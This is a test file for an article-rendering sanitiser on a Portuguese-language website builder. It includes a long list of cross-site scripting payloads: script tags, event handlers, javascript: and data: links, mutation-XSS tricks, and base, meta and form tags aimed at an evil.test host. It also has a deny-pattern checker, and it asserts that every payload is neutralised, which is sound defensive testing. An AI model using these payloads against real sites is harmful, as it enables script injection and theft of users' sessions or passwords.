import { describe, expect, test } from "vitest";
import { env } from "../env";
import { renderArticle } from "./render-article";

const site = "https://sitepronto.test";
const imageHosts = ["example.com"];

/** Returns the article as a browser renders it from the sanitised text. */
function shown(content: string): HTMLElement {
  const page = document.createElement("div");
  page.innerHTML = renderArticle(content, site, imageHosts).html;
  return page;
}

/** Returns everything in a document that could execute. */
function dangers(page: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of page.querySelectorAll("*")) {
    if (
      /^(script|style|link|meta|base|iframe|frame|object|embed|applet|form|input|button|textarea|select|svg|math|template|noscript|video|audio|source|portal|dialog)$/i.test(
        element.localName,
      )
    ) {
      found.push(element.localName);
    }
    for (const { name, value } of element.attributes) {
      if (
        /^(on|style$|srcdoc|srcset|formaction|action|xlink|background|class$|id$|name$|is$|slot$)/i.test(name)
      ) {
        if (
          !(name === "class" && ["table-scroll", "whitespace-nowrap"].includes(value)) &&
          !value.startsWith("secao-")
        )
          found.push(`${name}=${value}`);
      }
      if (/^(href|src)$/i.test(name) && !/^(https?|mailto|tel):$/.test(new URL(value, site).protocol)) {
        found.push(`${name}=${value}`);
      }
    }
  }
  return found;
}

const attacks: Record<string, string> = {
  script: "Antes\n\n<script>globalThis.stolen = true</script>\n\nDepois",
  "script in a paragraph": "Antes <script>globalThis.stolen = true</script> Depois",
  "script in capitals": "Antes\n\n<SCRIPT SRC=//evil.test/x.js></SCRIPT>\n\nDepois",
  "script left open": "Antes\n\n<script>globalThis.stolen = true\n\nDepois",
  "script in a script": "Antes <scr<script>ipt>alert(1)</scr</script>ipt> Depois",
  "script after a slash": "Antes <script/x>alert(1)</script> Depois",
  "picture with onerror": 'Antes <img src="x" onerror="globalThis.stolen = true"> Depois',
  "handler without quotes": "Antes <img src=x onerror=alert(1)> Depois",
  "handler after slashes": "Antes <img/src=x/onerror=alert(1)> Depois",
  "handler on an allowed element": 'Antes <p onclick="alert(1)" onmouseover=alert(1)>meio</p> Depois',
  "details that open by themselves":
    "Antes <details open ontoggle=alert(1)><summary>x</summary></details> Depois",
  "javascript link in Markdown": "Antes [clique](javascript:alert(1)) Depois",
  "javascript link in Markdown, mixed case": "Antes [clique](JaVaScRiPt:alert(1)) Depois",
  "javascript link in Markdown, encoded":
    "Antes [clique](javascript&colon;alert(1)) [x](&#106;avascript:alert(1)) Depois",
  "javascript link by reference": "Antes [clique][a] Depois\n\n[a]: javascript:alert(1)",
  "javascript autolink": "Antes <javascript:alert(1)> Depois",
  "javascript link in HTML": 'Antes <a href="javascript:alert(1)">clique</a> Depois',
  "javascript link with a tab": 'Antes <a href="java\tscript:alert(1)">clique</a> Depois',
  "javascript link with a control character": 'Antes <a href="\u0001javascript:alert(1)">clique</a> Depois',
  "javascript link with entities": 'Antes <a href="&#x6A;&#97;vascript&#58;alert(1)">clique</a> Depois',
  "vbscript link": 'Antes <a href="vbscript:msgbox(1)">clique</a> Depois',
  "data link": 'Antes <a href="data:text/html,<script>alert(1)</script>">clique</a> Depois',
  "data picture":
    'Antes <img src="data:image/svg+xml,<svg onload=alert(1)>"> ![x](data:text/html;base64,PHNjcmlwdD4=) Depois',
  "blob and file":
    'Antes <a href="blob:https://sitepronto.test/1">a</a> <a href="file:///etc/passwd">b</a> Depois',
  "picture by srcset": 'Antes <img srcset="x 1x, javascript:alert(1) 2x"> Depois',
  "iframe with srcdoc": 'Antes <iframe srcdoc="<script>parent.stolen = true</script>"></iframe> Depois',
  "iframe left open": 'Antes <iframe srcdoc="<img src=x onerror=alert(1)>">\n\nDepois',
  "iframe with javascript": 'Antes <iframe src="javascript:alert(1)">meio</iframe> Depois',
  "object and embed":
    'Antes <object data="javascript:alert(1)"></object><embed src="//evil.test/x.swf"> Depois',
  "svg with foreignObject":
    "Antes <svg><foreignObject><body onload=alert(1)><p>meio</p></body></foreignObject></svg> Depois",
  "svg with script and animation":
    'Antes <svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x /><a xlink:href="javascript:alert(1)"><text>meio</text></a></svg> Depois',
  "math with a link":
    'Antes <math><mtext xlink:href="javascript:alert(1)" href="javascript:alert(1)">meio</mtext></math> Depois',
  base: 'Antes <base href="https://evil.test/"> Depois',
  "meta refresh": 'Antes <meta http-equiv="refresh" content="0;url=https://evil.test"> Depois',
  link: 'Antes <link rel="stylesheet" href="https://evil.test/x.css"> Depois',
  form: 'Antes <form action="https://evil.test"><input name="senha"><button formaction="javascript:alert(1)">Entrar</button></form> Depois',
  "button outside a form": "Antes <button onclick=alert(1)>meio</button><textarea>meio</textarea> Depois",
  "style element": "Antes <style>body { display: none } @import 'https://evil.test/x.css';</style> Depois",
  "style left open": "Antes\n\n<style>* { color: red }\n\nDepois",
  "overlay by style":
    'Antes <div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.test)">meio</div> Depois',
  "overlay by class": 'Antes <div class="fixed inset-0 z-50 bg-ink">meio</div> Depois',
  "the page's own ids":
    'Antes <p id="content">meio</p><img name="body" src="https://example.com/a.png"> Depois',
  "marquee and video":
    "Antes <marquee onstart=alert(1)>meio</marquee><video autoplay onplay=alert(1) src=x></video> Depois",
  "custom element": "Antes <x-y onfocus=alert(1) tabindex=0 autofocus contenteditable is=x>meio</x-y> Depois",
  "comment left open": "Antes <!-- <img src=x onerror=alert(1)>\n\nDepois",
  "conditional comment": "Antes <!--[if IE]><script>alert(1)</script><![endif]--> Depois",
  "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?>\n\nAntes Depois',
  "mutation by noscript":
    'Antes <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> Depois',
  "mutation by style in math":
    'Antes <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math> Depois',
  "mutation by form in math":
    "Antes <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math> Depois",
  "mutation by title in svg":
    'Antes <svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg> Depois',
  "mutation by nested textarea":
    'Antes <svg><desc><textarea></desc><img title="</textarea><img src=x onerror=alert(1)>"></svg> Depois',
  "mutation by xmp": 'Antes <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp> Depois',
  "mutation by template":
    "Antes <template><img src=x onerror=alert(1)><script>alert(1)</script></template> Depois",
  "mutation by annotation":
    'Antes <math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math> Depois',
  "mutation by a table":
    "Antes <table><td><style></table><img src=x onerror=alert(1)></style></td></table> Depois",
  plaintext: "Antes <plaintext> <img src=x onerror=alert(1)>\n\nDepois",
  "attribute that ends early": 'Antes <a title="x\\" onmouseover="alert(1)">meio</a> Depois',
  "null characters": "Antes <scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x on\u0000error=alert(1)> Depois",
  "full document":
    "<!doctype html><html><head><title>T</title><script>alert(1)</script></head><body onload=alert(1)><p>Antes</p><p>Depois</p></body></html>",
};

describe("a malicious text", () => {
  test("is detected by the test without sanitisation", () => {
    const page = document.createElement("div");
    page.innerHTML =
      '<script>1</script><img src="x" onerror="1"><a href="javascript:1">x</a><p id="content" style="x" class="y"></p>';
    expect(dangers(page)).toHaveLength(6);
  });

  test.each(Object.entries(attacks))("%s: is neutralised and keeps its text", (_name, content) => {
    const page = shown(content);
    expect(dangers(page)).toEqual([]);
    expect(page.textContent).toContain("Antes");
    expect(page.textContent).toContain("Depois");
    expect(page.textContent.includes("meio")).toBe(content.includes("meio"));
  });

  test.each(Object.entries(attacks))("%s: is stable after serialising and parsing", (_name, content) => {
    const once = renderArticle(content, site, imageHosts).html;
    const page = document.createElement("div");
    page.innerHTML = once;
    const again = document.createElement("div");
    again.innerHTML = page.innerHTML;
    expect(dangers(again)).toEqual([]);
    expect(again.innerHTML).toBe(page.innerHTML);
  });

  test("with excessive nesting is shown as plain text without delay", () => {
    const page = shown(`${"<div>".repeat(30_000)}Antes <img src=x onerror=alert(1)> Depois`);
    expect(dangers(page)).toEqual([]);
    expect(page.textContent).toContain("Depois");
  });

  test("keeps attacks inside code as readable text", () => {
    const page = shown(
      'Nunca cole `<script>alert(1)</script>` no site:\n\n```html\n<iframe src="x"></iframe>\n```',
    );
    expect(page.querySelector("p code")).toHaveTextContent("<script>alert(1)</script>");
    expect(page.querySelector("pre code")).toHaveTextContent('<iframe src="x"></iframe>');
    expect(dangers(page)).toEqual([]);
  });
});

describe("Markdown in an article", () => {
  test("becomes headings, emphasis, lists, quotes, tables and images", () => {
    const page = shown(
      "## Título\n\nUm **forte** e _ênfase_.\n\n1. um\n2. dois\n\n> citação\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n![foto](https://example.com/a.png)",
    );
    expect(page.querySelector("h2")).toHaveTextContent("Título");
    expect(page.querySelector("strong")).toHaveTextContent("forte");
    expect(page.querySelectorAll("ol > li")).toHaveLength(2);
    expect(page.querySelector("blockquote p")).toHaveTextContent("citação");
    expect(page.querySelector("td[align=right]")).toHaveTextContent("2");
    expect(page.querySelector("img")).toHaveAttribute("alt", "foto");
  });

  test("works around HTML", () => {
    const page = shown(
      'Um **forte**\n\n<figure><img src="/a.png" width="800" height="600"><figcaption>Legenda</figcaption></figure>\n\nFim',
    );
    expect(page.querySelector("strong")).toHaveTextContent("forte");
    expect(page.querySelector("figure img")).toHaveAttribute("width", "800");
    expect(page.querySelector("figcaption")).toHaveTextContent("Legenda");
  });
});

test("is not applied to pure HTML, regardless of its indentation", () => {
  const page = shown("<div>\n\n    <p>Primeiro * um *</p>\n\n    <p>Segundo</p>\n\n</div>");
  expect(page.querySelectorAll("p")).toHaveLength(2);
  expect(page.querySelector("pre, em")).toBeNull();
});

describe("the headings of an article", () => {
  test("start below the page's title and skip no level", () => {
    const { headings } = renderArticle("# A\n\n#### B\n\n## C\n\n# D\n\n###### E", site);
    expect(headings.map(({ text, level }) => [text, level])).toEqual([
      ["A", 2],
      ["B", 3],
      ["C", 3],
      ["D", 2],
      ["E", 3],
    ]);
  });

  test("get unique IDs that differ from the page's own", () => {
    const { html, headings } = renderArticle(
      "## Preço & _prazo_\n\n## Preço e prazo\n\n## Preço e prazo\n\n## 🎉",
      site,
    );
    expect(headings.map(({ id }) => id)).toEqual([
      "secao-preco-prazo",
      "secao-preco-e-prazo",
      "secao-preco-e-prazo-2",
      "secao-parte",
    ]);
    expect(headings[0]?.text).toBe("Preço & prazo");
    expect(html).toContain('<h2 id="secao-preco-prazo">');
  });

  test("without text are removed", () => {
    const { html, headings } = renderArticle("<h1> </h1>\n\n## Um", site);
    expect(headings.map(({ text }) => text)).toEqual(["Um"]);
    expect(html).not.toContain("<h1");
  });
});

describe("the links of an article", () => {
  test.each([
    ["https://example.com/x", "noopener"],
    ["http://sitepronto.test/planos", "noopener"],
    ["//example.com", "noopener"],
    ["https://sitepronto.test/planos", null],
    ["/planos", null],
    ["#secao-um", null],
    ["mailto:ola@sitepronto.test", null],
    ["tel:+551199999999", null],
  ])("to %s have rel %s", (href, rel) => {
    const link = shown(`[x](${href})`).querySelector("a");
    expect(link).toHaveAttribute("href", href);
    expect(link?.getAttribute("rel")).toBe(rel);
  });
});

test("images load lazily and have an empty alternative text instead of a file name", () => {
  const image = shown('<img src="https://example.com/a.png" width="10" height="20">').querySelector("img");
  expect(image).toHaveAttribute("loading", "lazy");
  expect(image).toHaveAttribute("alt", "");
  expect(image).toHaveAttribute("height", "20");
});

test("images load from the site, the storage and configured hosts; others become links", () => {
  const page = shown(
    `![nossa](/a.png) ![guardada](${env.supabaseUrl}/storage/v1/object/public/media/a.png) ` +
      "![alheia](https://rastro.example/a.png) ![](https://rastro.example/b.png) ![dela](https://example.com.evil.test/a.png)",
  );
  expect([...page.querySelectorAll("img")].map(({ alt }) => alt)).toEqual(["nossa", "guardada"]);
  expect([...page.querySelectorAll("a")].map((link) => [link.textContent, link.rel])).toEqual([
    ["alheia", "noopener"],
    ["https://rastro.example/b.png", "noopener"],
    ["dela", "noopener"],
  ]);
});

test("a table scrolls separately, also by keyboard, and is named after its caption or headings", () => {
  const byHeadings = shown("| Registro | Para que serve |\n| - | - |\n| A | o site |").querySelector("table");
  expect(byHeadings?.parentElement).toHaveAttribute("tabindex", "0");
  expect(byHeadings?.parentElement).toHaveAccessibleName("Registro, Para que serve");
  const byCaption = shown("<table><caption>Preços</caption><tr><th>a</th></tr></table>").querySelector(
    "table",
  );
  expect(byCaption?.parentElement).toHaveAccessibleName("Preços");
  const bare = shown("<table><tr><td>1</td></tr></table>").querySelector("table");
  expect(bare?.parentElement).not.toHaveAttribute("role");
});

test("an empty text is an empty article", () => {
  expect(renderArticle("", site)).toEqual({ html: "", headings: [] });
});

test('"e-mail" does not break across lines, and other text does not change', () => {
  const page = shown("## O e-mail\n\nUm **e-mail** por [E-mails](https://example.com), e `e-mail`.");
  expect([...page.querySelectorAll(".whitespace-nowrap")].map((word) => word.textContent)).toEqual([
    "e-mail",
    "e-mail",
    "E-mails",
    "e-mail",
  ]);
  expect(page.textContent).toBe("O e-mail\nUm e-mail por E-mails, e e-mail.\n");
});
